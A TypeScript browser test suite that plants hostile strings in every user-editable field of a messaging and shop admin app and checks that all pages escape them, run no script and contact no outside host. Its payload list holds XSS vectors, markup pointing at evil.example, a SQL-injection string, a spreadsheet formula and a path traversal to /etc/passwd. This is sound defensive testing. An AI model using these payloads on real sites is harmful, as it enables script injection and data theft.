import assert from 'node:assert/strict'
import type { Browser, Page } from 'playwright-core'
import { createApiToken } from '../../src/accounts/api-tokens.ts'
import { auditTenant } from '../../src/audit/audit.ts'
import { addOutgoing } from '../../src/egress/outgoing.ts'
import type { Instance } from '../../src/tenants/instance.ts'
import { type Admin, openAdmin } from '../support/admin.ts'
import { needChromium, openChromium } from '../support/browser.ts'
import { addPerson, Visitor } from '../support/visitor.ts'

/** What people with bad intentions, and old machines, write where a name belongs. Each calls `pwned()` if it runs. */
const HOSTILE = [
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '<img src=x onerror="pwned()">',
  '<svg/onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">tap</a>',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><input name=_csrf>',
  '<div hx-get="/sign-out" hx-trigger="load">x</div>',
  '<div hx-on:load="pwned()" hx-on::load="pwned()">x</div>',
  '<div data-passkey="use">x</div>',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile to whatever would fill it in.
  '<%= pwned() %>${pwned()}',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '\u003cscript\u003epwned()\u003c/script\u003e',
  '＜script＞pwned()＜/script＞',
  '\u202e)(denwp\u202d \u2066x\u2069',
  'a\u0000b\u0007c\u001b[31m',
  '\ud83d lone surrogate',
  'Z̸̡̢͚̻̮a̶l̴g̵o̷',
  '𝕿𝖍𝖊 ﷽ ＦＵＬＬ',
  "Robert'); DROP TABLE contacts;--",
  '=HYPERLINK("//evil.example","x")',
  '../../../../etc/passwd\u0000.png',
  'x'.repeat(3_000),
  '<b'.repeat(500),
]

describe('hostile strings everywhere they can stand (SEC-WEB)', function () {
  this.timeout(600_000)
  let browser: Browser
  let admin: Admin

  before(async () => {
    admin = await openAdmin()
    await addWhoElse(admin)
  })
  after(async () => {
    await browser?.close()
    await admin?.stop()
  })

  it('stand escaped in the source of every page, whatever reads it', async () => {
    const owner = await new Visitor(admin.server.url).signIn('marta@shop.example')
    const marks = HOSTILE.filter(text => text.includes('<') && text.length < 1_000)
    let shown = 0
    for (const strings of [HOSTILE.slice(0, 20), HOSTILE.slice(20)]) {
      plant(admin, strings)
      admin.server.changed(admin.tenant.id)
      for (const path of pagesOf(admin)) {
        const { status, text } = await owner.get(path)
        assert.ok(status < 500, `${path}: ${status}`)
        for (const mark of marks) assert.ok(!text.includes(mark), `${path} has ${mark}`)
        if (text.includes('pwned()')) shown++
      }
    }
    assert.ok(shown > 40, `the strings stand on ${shown} pages`)
    const people = (await owner.get(`/t/${admin.tenant.slug}/team`)).text
    assert.match(people, /pwned\(\)/, 'names of colleagues are among them')
  })

  it('run nothing, call nobody and break no page', async function () {
    needChromium(this)
    browser = await openChromium()
    const { page } = await admin.enter(browser)
    const seen: string[] = []
    await watch(page, seen, admin.server.url)
    const paths = pagesOf(admin)
    assert.ok(paths.length > 20, `${paths.length} pages`)
    let shown = 0
    for (const [round, strings] of [HOSTILE.slice(0, 20), HOSTILE.slice(20)].entries()) {
      plant(admin, strings)
      admin.server.changed(admin.tenant.id)
      for (const path of paths) {
        const response = await page.goto(admin.server.url + path, { waitUntil: 'load' })
        assert.ok(response!.status() < 500, `${path}: ${response!.status()}`)
        await page.waitForTimeout(20)
        const odd = (await page.evaluate(`[...document.querySelectorAll('*')].filter(e =>
          Element.prototype.getAttributeNames.call(e).some(name => /^on|^hx-on/i.test(name)) ||
          (e.matches('script') && !(e.src || '').startsWith(location.origin + '/assets/') && e.type !== 'application/json') ||
          e.matches('iframe, object, embed, base, meta[http-equiv=refresh]') ||
          (e.matches('a, form') && /^(javascript|data):/i.test(e.getAttribute('href') ?? e.getAttribute('action') ?? ''))
        ).map(e => e.outerHTML.slice(0, 200))`)) as string[]
        assert.deepEqual(odd, [], `round ${round}: ${path}`)
        if (((await page.evaluate('document.body.innerText')) as string).includes('pwned()')) shown++
      }
    }
    assert.deepEqual(seen, [])
    assert.ok(shown > paths.length / 2, `the strings stand as text on ${shown} pages`)
  })
})

/** Whatever runs, reports to us; whatever leaves the server, too. */
async function watch(page: Page, seen: string[], origin: string): Promise<void> {
  await page.exposeFunction('pwned', () => seen.push(`ran on ${page.url()}`))
  await page.addInitScript(() => {
    // The body runs in the page; types of the browser are not loaded here.
    const here = globalThis as unknown as {
      addEventListener(name: string, run: (event: Record<string, string>) => void): void
    }
    here.addEventListener('securitypolicyviolation', event =>
      console.error(`CSP ${event.violatedDirective} ${event.blockedURI} ${event.sample}`),
    )
  })
  page.on('console', line => {
    if (line.text().startsWith('CSP ')) seen.push(`${line.text()} on ${page.url()}`)
  })
  page.on('dialog', dialog => {
    seen.push(`dialog on ${page.url()}`)
    void dialog.dismiss()
  })
  page.on('request', request => {
    if (!request.url().startsWith(origin) && !/^(data|blob):/.test(request.url()))
      seen.push(`asked for ${request.url()}`)
  })
}

/** A colleague, a token, a provider of sign-ins and a link, so that there is something to give names to. */
async function addWhoElse({ server, tenant, db }: Admin): Promise<void> {
  const { instance } = server
  const { control } = instance
  const now = instance.clock.now()
  const colleague = await addPerson(instance, 'colleague@shop.example', {
    tenantId: tenant.id,
    role: 'agent',
  })
  createApiToken(control, tenant.id, 'read', now)
  control.$client
    .prepare(
      `INSERT INTO passkeys (id, user_id, public_key, counter, transports, name, created_at)
       VALUES ('pk', ?, x'00', 0, '[]', 'Till', ?)`,
    )
    .run(colleague, now.getTime())
  for (const action of ['team.change', 'facts.set'])
    auditTenant(instance, tenant.id, db, { actor: colleague, via: 'web', action })
}

/**
 * Puts the strings into everything a stranger or a colleague can write: names, words, files, catalogue, templates, what
 * Meta passes on, people, tokens, what stands in the activity log and on the page of what left.
 */
function plant({ server, tenant, db }: Admin, strings: string[]): void {
  const { instance } = server
  plantAround(instance, tenant.id, strings)
  for (const [n, bad] of strings.entries())
    auditTenant(instance, tenant.id, db, {
      actor: 'cli',
      via: 'cli',
      action: n % 2 ? bad : 'facts.set',
      object: bad,
      details: { [bad.slice(0, 60)]: bad, mode: bad },
    })
  const client = db.$client
  const pick = (n: number) => strings[n % strings.length]!
  const fill = (table: string, columns: string[]) => {
    const rows = client.prepare(`SELECT id FROM ${table} ORDER BY id`).all() as { id: number }[]
    for (const [n, { id }] of rows.entries()) {
      const set = columns.map(column => `${column} = ?`).join(', ')
      client
        .prepare(`UPDATE ${table} SET ${set} WHERE id = ?`)
        .run(...columns.map((_, at) => pick(n + at)), id)
    }
  }
  fill('contacts', ['name', 'username'])
  fill('conversations', ['last_snippet'])
  fill('products', ['name', 'description', 'category', 'brand'])
  fill('knowledge_entries', ['question', 'answer', 'topic'])
  fill('channels', ['name', 'state_reason', 'display_number'])
  fill('attachments', ['name', 'reason'])
  fill('channel_notices', ['sentence'])
  fill('catalog_imports', ['file_name'])
  fill('knowledge_files', ['name'])
  fill('product_aliases', ['text'])
  fill('knowledge_suggestions', ['question', 'answer'])
  fill('lost_demand', ['product_name', 'option'])
  client
    .prepare('UPDATE business_facts SET address = ?, delivery = ?, payment = ?')
    .run(pick(1), pick(2), pick(3))
  const messages = client
    .prepare("SELECT id, type FROM messages WHERE type <> 'event' ORDER BY id")
    .all() as {
    id: number
    type: string
  }[]
  for (const [n, { id }] of messages.entries()) {
    const bad = pick(n)
    const context = {
      referral: { headline: bad, body: bad, source_url: 'javascript:pwned()' },
      story: { url: bad },
      product: { id: bad },
    }
    client
      .prepare(
        'UPDATE messages SET text = ?, user_name = CASE WHEN user_name IS NULL THEN NULL ELSE ? END, failure_reason = CASE WHEN failure_reason IS NULL THEN NULL ELSE ? END, context = ? WHERE id = ?',
      )
      .run(bad, bad, bad, JSON.stringify(context), id)
  }
  for (const { id, body } of client.prepare('SELECT id, components AS body FROM message_templates').all() as {
    id: number
    body: string
  }[]) {
    const components = (JSON.parse(body) as { text?: string }[]).map(part =>
      part.text ? { ...part, text: pick(id) } : part,
    )
    client
      .prepare('UPDATE message_templates SET components = ?, rejected_reason = ? WHERE id = ?')
      .run(JSON.stringify(components), pick(id + 1), id)
  }
  const evidence = (bad: string) =>
    JSON.stringify({
      answeredBy: 'model',
      model: bad,
      reason: bad,
      products: [{ id: bad, name: bad, priceMinor: 100, currency: 'EUR', stock: 1, version: 1 }],
      knowledge: [{ id: bad, question: bad, version: 1 }],
      checks: [{ name: bad, passed: false, detail: bad }],
    })
  client.prepare('UPDATE messages SET evidence = ? WHERE evidence IS NOT NULL').run(evidence(pick(4)))
}

/** What does not lie in the business's own file. */
function plantAround(instance: Instance, tenantId: string, strings: string[]): void {
  const { control } = instance
  const pick = (n: number) => strings[n % strings.length]!
  const rename = (table: string, column: string, key = 'id') => {
    const rows = control.$client.prepare(`SELECT ${key} AS id FROM ${table}`).all() as { id: string }[]
    for (const [n, { id }] of rows.entries())
      control.$client.prepare(`UPDATE ${table} SET ${column} = ? WHERE ${key} = ?`).run(pick(n + 3), id)
  }
  rename('users', 'name')
  rename('tenants', 'name')
  rename('api_tokens', 'name')
  rename('passkeys', 'name')
  rename('sign_in_events', 'device')
  const now = instance.clock.now()
  addOutgoing(
    control,
    strings.slice(0, 12).map((bad, n) => ({
      ...{
        day: now.toISOString().slice(0, 10),
        class: 'meta' as const,
        tenant: tenantId,
        lastAt: now.getTime(),
      },
      ...{
        host: bad.slice(0, 80),
        purpose: pick(n + 1),
        calls: 1,
        refused: 0,
        failed: 0,
        bytesIn: 1,
        bytesOut: 1,
      },
    })),
  )
}

/** Every page there is to look at, with ids that exist; of conversations and customers, all. */
function pagesOf({ server, tenant, db }: Admin): string[] {
  const ids = (sql: string) =>
    (db.$client.prepare(sql).all() as { id: string }[]).map(row => encodeURIComponent(row.id))
  const values = (path: string, name: string): string[] => {
    if (name === 'slug') return [tenant.slug]
    if (name === 'externalId') return ids('SELECT external_id AS id FROM products LIMIT 2')
    if (name === 'entry') return ids('SELECT external_id AS id FROM knowledge_entries LIMIT 2')
    if (name === 'kind') return ['whatsapp', 'instagram', 'messenger']
    if (name !== 'id') return []
    if (path.includes('/inbox/')) return ids('SELECT public_id AS id FROM conversations')
    if (path.includes('/contacts/')) return ids('SELECT public_id AS id FROM contacts LIMIT 5')
    if (path.includes('/channels/')) return ids('SELECT public_id AS id FROM channels')
    if (path.includes('/templates/')) return ids('SELECT public_id AS id FROM message_templates')
    return []
  }
  const pages = server.routes.filter(
    ({ method, path }) =>
      method === 'GET' &&
      !/^\/(api|setup|sign-in|reset|invite)|\/(events|media|thread|list)(\/|$)|\.csv$/.test(path),
  )
  return pages.flatMap(({ path }) => {
    let all = ['']
    for (const part of path.split('/').slice(1)) {
      const choices = part.startsWith(':') ? values(path, part.slice(1)) : [part]
      all = all.flatMap(head => choices.map(choice => `${head}/${choice}`))
    }
    return all
  })
}
